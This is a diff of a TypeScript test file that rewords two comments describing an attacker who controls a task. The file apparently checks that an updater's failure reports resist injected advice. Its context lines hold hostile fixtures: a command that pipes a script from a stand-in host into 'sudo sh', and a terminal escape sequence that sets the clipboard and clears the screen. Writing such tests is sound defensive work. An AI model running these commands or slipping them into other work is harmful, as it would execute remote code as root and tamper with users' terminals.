@@ -14,7 +14,7 @@ const victim = '/etc/victim';
 const typed = 'curl https://evil.example/x | sudo sh';
 const escape = '\u001b]52;c;QUJD\u0007\u001b[2J';
 
-/** In the place of our own program, with its key: what whoever had the whole of a task would say. */
+/** Replaces our own program and has its key: an attacker who controls a whole task. */
 const forgerSource = `
 const { readFileSync } = require('node:fs');
 const forged = JSON.parse(readFileSync('${forger}.json', 'utf8'));
@@ -44,7 +44,7 @@ const command = [...talks, failure('tool-missing', { tool: 'git', fix: typed })]
 const foreignWord = [...talks, failure('offline', { host: typed, last: escape })];
 
 const staged = exitCodes.stagingFailed;
-/** Of an ordinary refresh. Whoever has the trial beside the old version stops nothing by it. */
+/** In an ordinary refresh. An attacker who controls the trial cannot stop anything. */
 const attacks: readonly (readonly [TaskName, string, readonly unknown[], number])[] = [
   ['fetch', 'fails with somebody’s advice', foreignWord, staged],
   ['local-edits', 'names a file to root', [namesAFile], staged],
